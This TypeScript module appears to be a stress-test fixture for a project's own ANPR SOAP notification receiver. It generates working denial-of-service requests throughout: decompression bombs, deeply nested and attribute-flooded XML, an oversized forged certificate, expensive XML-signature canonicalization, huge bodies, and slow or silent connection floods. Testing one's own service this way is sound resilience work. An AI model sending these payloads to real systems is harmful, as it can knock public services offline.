/**
 * Calls of people who mean no good, each of which once stopped, flooded or starved the receiver; and how they are sent.
 * Invariant: none needs a key that anybody was given: the address of the endpoint and a public ISTAT code are enough.
 */
import { randomBytes } from 'node:crypto';
import { deflateRawSync, gzipSync } from 'node:zlib';
import forge from 'node-forge';
import { writeRichiesta } from '../src/soap/busta.js';
import { firmaBusta } from '../src/soap/firma-busta.js';
import { NS } from '../src/soap/spazi.js';

/** `raffica`: again and again; `goccia`: a byte now and then, never the last; `attesa`: connections that say nothing. */
export type Modo = 'raffica' | 'goccia' | 'attesa';

export interface Assalto {
  readonly nome: string;
  readonly modo: Modo;
  readonly connessioni: number;
  /** The whole HTTP request. */
  readonly richiesta: Buffer;
}

/** What hostile calls are written for. */
export interface Bersagliato {
  readonly codDestinatario: string;
  readonly percorso: string;
}

const MEGA = 1024 * 1024;

interface Corpo {
  readonly corpo: Buffer;
  readonly testate?: Readonly<Record<string, string>>;
}

function scriviHttp(percorso: string, { corpo, testate = {} }: Corpo): Buffer {
  const tutte = { 'Content-Type': 'text/xml; charset=utf-8', ...testate, 'Content-Length': String(corpo.length) };
  const righe = Object.entries(tutte).map(([nome, valore]) => `${nome}: ${valore}\r\n`);
  return Buffer.concat([Buffer.from(`POST ${percorso} HTTP/1.1\r\nHost: x\r\n${righe.join('')}\r\n`), corpo]);
}

const gzip = (testo: string | Buffer, testate: Readonly<Record<string, string>> = {}): Corpo => ({
  corpo: gzipSync(testo, { level: 9 }),
  testate: { ...testate, 'Content-Encoding': 'gzip' },
});

function buona(codDestinatario: string): string {
  return writeRichiesta({
    tipoNotifica: 'N010',
    codMittente: '999999',
    codDestinatario,
    dataOraRichiesta: new Date().toISOString(),
    idOperazioneANPR: String(88_000_000_000 + randomBytes(4).readUInt32BE()),
    contenuto: randomBytes(2_000),
  });
}

/** Puts something into the Header, beside an empty signature: what follows is looked at for its sake. */
const nellaTesta = (busta: string, cosa: string): string =>
  busta.replace(
    '<soapenv:Header/>',
    `<soapenv:Header><wsse:Security xmlns:wsse="${NS.wsse}"><ds:Signature xmlns:ds="${NS.ds}"/></wsse:Security>${cosa}</soapenv:Header>`,
  );

const ripeti = (n: number, f: (i: number) => string): string => Array.from({ length: n }, (_, i) => f(i)).join('');

/** A certificate that anybody can make: a huge key whose exponent makes every use of it slow. */
function certificatoEnorme(): string {
  const { BigInteger } = forge.jsbn;
  const piccola = forge.pki.rsa.generateKeyPair(1024);
  const numero = (bit: number): string =>
    `c${randomBytes(bit / 8)
      .toString('hex')
      .slice(2)}1`;
  const cert = forge.pki.createCertificate();
  cert.publicKey = forge.pki.setRsaPublicKey(new BigInteger(numero(16_384), 16), new BigInteger(numero(16_000), 16));
  cert.serialNumber = '01';
  cert.validity.notBefore = new Date(Date.now() - 86_400_000);
  cert.validity.notAfter = new Date(Date.now() + 86_400_000);
  cert.setSubject([{ name: 'commonName', value: 'CHIUNQUE' }]);
  cert.setIssuer([{ name: 'commonName', value: 'CHIUNQUE' }]);
  cert.sign(piccola.privateKey, forge.md.sha256.create());
  return forge.util.encode64(forge.asn1.toDer(forge.pki.certificateToAsn1(cert)).getBytes());
}

/** A genuine form whose KeyInfo names that certificate thousands of times. */
function moltiCandidati(codDestinatario: string): string {
  const chiavi = forge.pki.rsa.generateKeyPair(2048);
  const cert = forge.pki.createCertificate();
  cert.publicKey = chiavi.publicKey;
  cert.sign(chiavi.privateKey, forge.md.sha256.create());
  const pem = forge.pki.certificateToPem(cert);
  const firmata = firmaBusta(buona(codDestinatario), forge.pki.privateKeyToPem(chiavi.privateKey), pem, {
    now: new Date(),
  });
  const nomi = ripeti(
    4_000,
    () => '<wsse:SecurityTokenReference><wsse:Reference URI="#X509-1"/></wsse:SecurityTokenReference>',
  );
  return firmata
    .replace(/(<wsse:BinarySecurityToken[^>]*>)[^<]*/, (_, apertura: string) => apertura + certificatoEnorme())
    .replace(/<wsse:SecurityTokenReference>.*?<\/wsse:SecurityTokenReference>/, nomi);
}

/** A signature that verifies, by somebody of whom nobody has heard. */
function sconosciuto(codDestinatario: string): string {
  const chiavi = forge.pki.rsa.generateKeyPair(2048);
  const cert = forge.pki.createCertificate();
  cert.publicKey = chiavi.publicKey;
  cert.validity.notAfter = new Date(Date.now() + 86_400_000);
  cert.sign(chiavi.privateKey, forge.md.sha256.create());
  const pem = forge.pki.certificateToPem(cert);
  return firmaBusta(buona(codDestinatario), forge.pki.privateKeyToPem(chiavi.privateKey), pem, { now: new Date() });
}

/** A signature that asks for the dearest canonical form: 19 KB that once took seven seconds before anybody asked who signs. */
function canonicoCaro(busta: string): string {
  const firma =
    '<ds:Signature><ds:SignedInfo>' +
    '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>' +
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>' +
    `<ds:Reference URI=""><ds:Transforms><ds:Transform Algorithm="${NS.ds}enveloped-signature"/></ds:Transforms>` +
    '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue>' +
    '</ds:Reference></ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue></ds:Signature>';
  const spazi = ripeti(480, (i) => ` xmlns:n${i}="u:${i}"`);
  const fondo = ripeti(100, () => '<a>') + ripeti(1_700, () => '<a/>') + ripeti(100, () => '</a>');
  const testa = `<wsse:Security xmlns:wsse="${NS.wsse}" xmlns:ds="${NS.ds}">${firma.repeat(4)}</wsse:Security>${fondo}`;
  return busta.replace('<soapenv:Header/>', `<soapenv:Header${spazi}>${testa}</soapenv:Header>`);
}

/** All of them. */
export function assalti({ codDestinatario, percorso }: Bersagliato): Assalto[] {
  const busta = buona(codDestinatario);
  const annidati = ripeti(2_000, () => '<a>') + ripeti(2_000, () => '</a>');
  const raffica = (nome: string, connessioni: number, corpo: Corpo): Assalto => ({
    nome,
    modo: 'raffica',
    connessioni,
    richiesta: scriviHttp(percorso, corpo),
  });
  const testo = (s: string): Corpo => ({ corpo: Buffer.from(s) });
  const multipart = { 'Content-Type': 'multipart/related; type="application/xop+xml"; boundary=b' };
  const parte = `--b\r\ncontent-id: a${' '.repeat(120_000)}b\r\n\r\n${busta}\r\n--b--\r\n`;
  const inizio = scriviHttp(percorso, { corpo: Buffer.alloc(5_000, 0x20) }).subarray(0, -4_999);
  return [
    raffica('9 KB that were 9 MB in 2,000 levels', 4, gzip(nellaTesta(busta, annidati + ' '.repeat(9_100_000)))),
    raffica(
      '100,000 levels',
      4,
      testo(nellaTesta(busta, ripeti(100_000, () => '<a>') + ripeti(100_000, () => '</a>'))),
    ),
    raffica('a part header of 120,000 blanks', 16, gzip(parte, multipart)),
    raffica('one huge certificate named 4,000 times', 4, testo(moltiCandidati(codDestinatario))),
    raffica('60,000 attributes', 4, testo(nellaTesta(busta, `<a${ripeti(60_000, (i) => ` b${i}=""`)}/>`))),
    raffica('60,000 namespaces', 4, testo(nellaTesta(busta, `<a${ripeti(60_000, (i) => ` xmlns:b${i}="u:${i}"`)}/>`))),
    raffica('the dearest canonical form', 4, testo(canonicoCaro(busta))),
    raffica('900,000 elements', 4, testo(nellaTesta(busta, '<a/>'.repeat(900_000)))),
    raffica('64 gzips of 32 KB that were 2 GB', 64, gzip(Buffer.alloc(32 * MEGA, 0x20))),
    raffica('64 deflates as wide as is allowed', 64, {
      corpo: deflateRawSync(nellaTesta(busta, '<b/>'.repeat(60_000))),
      testate: { 'Content-Encoding': 'deflate' },
    }),
    raffica('200 bodies of 20 MB', 200, testo(nellaTesta(busta, ' '.repeat(20 * MEGA)))),
    raffica('calls of four bytes', 64, testo('ciao')),
    raffica('unsigned notifications for us', 64, testo(busta)),
    raffica('notifications signed by nobody we know', 64, testo(sconosciuto(codDestinatario))),
    { nome: '256 bodies a byte at a time', modo: 'goccia', connessioni: 256, richiesta: inizio },
    { nome: '2,000 connections that say nothing', modo: 'attesa', connessioni: 2_000, richiesta: Buffer.alloc(0) },
  ];
}
